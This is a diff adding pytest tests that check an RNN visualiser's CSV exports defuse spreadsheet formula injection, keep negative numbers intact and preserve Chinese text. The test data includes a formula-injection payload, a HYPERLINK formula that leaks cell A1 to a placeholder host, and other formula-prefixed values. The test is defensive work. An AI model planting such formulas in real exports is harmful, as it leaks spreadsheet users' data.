@@ -97,3 +97,47 @@ def test_figure_html_is_standalone():
     ("", "export.csv"), ("<script>", "script.csv"), ("猫", "猫.csv")])
 def test_safe_filenames(name, expected):
     assert safe_filename(name, "csv") == expected
+
+
+HOSTILE_TOKENS = ('=HYPERLINK("https://example.invalid/?leak="&A1,"click")', "+1+2", "-2+3",
+                  "@SUM(A1)", "\tcmd", "\rcmd", "猫", "正常")
+
+
+@pytest.fixture(scope="module")
+def hostile_trace():
+    from rnnviz.model import RNNConfig, RNNModel
+    from rnnviz.text import Vocab
+    vocab = Vocab(("<pad>", "<unk>", "<bos>", "<eos>") + HOSTILE_TOKENS)
+    torch.manual_seed(0)
+    model = RNNModel(RNNConfig(vocab_size=len(vocab), embed_dim=3, hidden_size=4))
+    return trace(model, list(range(4, len(vocab)))), vocab
+
+
+def test_formula_cells_are_neutralised_in_every_csv(hostile_trace):
+    tr, vocab = hostile_trace
+    for table in (*TABLES, "grads"):
+        raw = csv_bytes(trace_frame(tr, vocab, table))
+        df = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", keep_default_na=False,
+                         na_values=[""], dtype=str)
+        text_cols = [c for c in ("token", "target", "guess", "parameter") if c in df.columns]
+        for col in text_cols:
+            for cell in df[col]:
+                assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")), (table, cell)
+        if table == "tokens":
+            assert list(df["token"]) == ["'" + t if t[0] in "=+-@\t\r" else t
+                                         for t in HOSTILE_TOKENS]
+
+
+def test_numbers_stay_numbers_and_negative_values_are_untouched(hostile_trace):
+    tr, vocab = hostile_trace
+    df = pd.read_csv(io.BytesIO(csv_bytes(trace_frame(tr, vocab, "h"))), encoding="utf-8-sig")
+    np.testing.assert_array_equal(df.drop(columns=["t", "token"]).to_numpy(), tr.h.double().numpy())
+    assert (tr.h < 0).any()  # the control: there are negative numbers, and they came back as such
+
+
+def test_csv_has_a_bom_and_chinese_survives_a_spreadsheet_style_read(hostile_trace):
+    tr, vocab = hostile_trace
+    raw = csv_bytes(trace_frame(tr, vocab, "tokens"))
+    assert raw.startswith(b"\xef\xbb\xbf")
+    text = raw.decode("utf-8-sig")
+    assert "猫" in text and "正常" in text
